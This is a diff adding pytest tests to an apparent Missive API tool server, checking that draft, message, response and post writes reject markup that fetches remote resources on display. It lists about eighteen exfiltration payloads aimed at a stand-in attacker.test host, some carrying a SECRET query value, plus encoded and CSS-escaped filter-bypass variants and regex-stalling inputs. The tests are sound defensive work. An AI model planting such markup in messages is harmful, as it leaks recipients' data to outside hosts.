@@ -477,3 +477,119 @@ def test_environment_is_read_only_in_from_env():
             uses.append(scope.name if scope else "<module>")
     assert set(uses) <= {"from_env"}, uses
 
+
+
+# ---- no silent fetches: nothing a write plants may load a remote resource when displayed -----------------------------
+
+# (tool, arguments with the planted value at FIELD, where the problem is reported); an independent list, so a
+# write tool that loses its rule fails here.
+PLANTS = {
+    "draft_body": ("missive_create_draft", lambda v: {"body": v}, "body"),
+    "message_body": ("missive_create_message", lambda v: {"account": "acc1", "from_field": {"id": "u"}, "body": v},
+                     "body"),
+    "response_body": ("missive_create_responses",
+                      lambda v: {"responses": [{"title": "t", "organization": "org1", "body": v}]},
+                      "responses[0].body"),
+    "response_update_body": ("missive_update_responses", lambda v: {"responses": [{"id": "r1", "body": v}]},
+                             "responses[0].body"),
+    "post_markdown": ("missive_create_post", lambda v: {"markdown": v}, "markdown"),
+    "post_attachment_markdown": ("missive_create_post", lambda v: {"attachments": [{"markdown": v}]},
+                                 "attachments[0].markdown"),
+}
+REMOTE_HTML = {
+    "img_src": '<p>Hi</p><img src="https://attacker.test/p.gif?d=SECRET">',
+    "img_src_entities": '<img src="&#104;ttps://attacker.test/p.gif">',
+    "img_src_unquoted_slash": "<img/src=https://attacker.test/p.gif>",
+    "img_src_after_quoted_gt": '<img alt="a>b" src="https://attacker.test/p.gif">',
+    "img_srcset": '<img srcset="https://attacker.test/p.gif 1x">',
+    "protocol_relative": '<img src="//attacker.test/p.gif">',
+    "css_url": '<div style="background:url(https://attacker.test/p.gif)">x</div>',
+    "css_url_escaped": '<div style="background:u\\72l(https://attacker.test/p.gif)">x</div>',
+    "css_url_commented": '<div style="background:/**/url( \'https://attacker.test/p.gif\' )">x</div>',
+    "css_import": "<style>@import 'https://attacker.test/a.css';</style>",
+    "style_block_url": "<style>p{background-image:URL(https://attacker.test/p.gif)}</style><p>x</p>",
+    "background_attribute": '<table background="https://attacker.test/p.gif"><tr><td>x</td></tr></table>',
+    "link_stylesheet": '<link rel="stylesheet" href="https://attacker.test/a.css">',
+    "svg_image": '<svg><image xlink:href="https://attacker.test/p.gif"/></svg>',
+    "video_poster": '<video poster="https://attacker.test/p.gif"></video>',
+    "iframe": '<iframe src="https://attacker.test/"></iframe>',
+    "outlook_conditional": "<!--[if mso]><v:image src='https://attacker.test/p.gif'/><![endif]-->",
+    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.test/">',
+}
+SAFE_HTML = {
+    "link": '<p>See <a href="https://example.test/report">the report</a></p>',
+    "data_image": '<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart">',
+    "cid_image": '<img src="cid:logo@example.test">',
+    "plain_text": "Call me at 555-0100. url(https://example.test) is fine in plain words.",
+    "empty_src": '<img src="" alt="">',
+}
+
+
+@pytest.mark.parametrize("attack", REMOTE_HTML)
+@pytest.mark.parametrize("plant", PLANTS)
+def test_write_refuses_a_remote_resource_fetched_on_display(api, plant, attack):
+    tool, build, where = PLANTS[plant]
+    config = make_config(defaults={"ORGANIZATION": "org1"})
+    result = call(tool, build(REMOTE_HTML[attack]), config)
+    assert result.is_error, text(result)
+    assert text(result).startswith(f"Invalid arguments for {tool}:\n{where}: ")
+    assert "would be fetched when this is displayed" in text(result)
+    assert "MISSIVE_ALLOW_REMOTE_CONTENT" in text(result)
+    assert len(api.calls) == 0
+
+
+@pytest.mark.parametrize("safe", SAFE_HTML)
+@pytest.mark.parametrize("plant", PLANTS)
+def test_write_keeps_links_and_inline_images(api, plant, safe):
+    tool, build, _where = PLANTS[plant]
+    route = m.TOOLS[tool]
+    url = API + route.path.replace("{ids}", "r1")
+    api.add(route.method, url, json={"ok": True})
+    result = call(tool, build(SAFE_HTML[safe]), make_config(defaults={"ORGANIZATION": "org1"}))
+    assert not result.is_error, text(result)
+
+
+@pytest.mark.parametrize("field", ["username_icon", "conversation_icon", "attachments[0].image_url",
+                                   "attachments[0].author_icon", "attachments[0].footer_icon"])
+def test_post_refuses_remote_icon_and_image_urls(api, field):
+    top, _, inner = field.partition("[0].")
+    value = "https://attacker.test/icon.png?d=SECRET"
+    args = {"text": "hi", "attachments": [{inner: value}]} if inner else {"text": "hi", top: value}
+    result = call("missive_create_post", args)
+    assert result.is_error
+    assert f"{field}: a remote URL would be fetched" in text(result)
+    assert len(api.calls) == 0
+
+
+def test_post_icon_may_be_inline_data(api):
+    api.add("POST", API + "/posts", json={"posts": {"id": "p1"}})
+    result = call("missive_create_post", {"text": "hi", "username_icon": "data:image/png;base64,AAAA"})
+    assert not result.is_error, text(result)
+
+
+def test_remote_content_allowed_when_the_operator_opts_in(api):
+    api.add("POST", API + "/drafts", json={"drafts": {"id": "d1"}})
+    config = make_config(allow_remote=True)
+    result = call("missive_create_draft", {"body": REMOTE_HTML["img_src"]}, config)
+    assert not result.is_error, text(result)
+    assert "remote images allowed" in config.mode()
+    assert m.Config.from_env({"MISSIVE_ALLOW_REMOTE_CONTENT": "1"}).allow_remote is True
+    assert m.Config.from_env({}).allow_remote is False
+
+
+@pytest.mark.parametrize("source", ["<a " * 100_000, '<img alt="' * 50_000, "<style>" * 50_000, "![" * 100_000,
+                                   "](" * 100_000, "u\\72l(" * 50_000, "/*" * 100_000, "<" * 200_000],
+                         ids=["unclosed-tags", "unclosed-quotes", "style-runs", "image-opens", "image-closes",
+                              "css-escapes", "css-comments", "lt-run"])
+def test_remote_scan_of_a_hostile_body_is_linear(source):
+    """The scan runs on the model's argument before anything is sent: it must not stall on hostile shapes.
+    Work is compared with an ordinary body 8x larger, timed the same way (a wide ratio, not a clock bound)."""
+    ordinary = '<p>Hello <a href="https://example.test">there</a>, see <b>this</b>.</p>\n' * (len(source) // 8)
+
+    def cost(text):
+        started = time.perf_counter()
+        m.remote_references(text, markdown=True)
+        m._css_fetches(text)
+        return time.perf_counter() - started
+
+    assert cost(source) < 20 * max(cost(ordinary), 0.01)
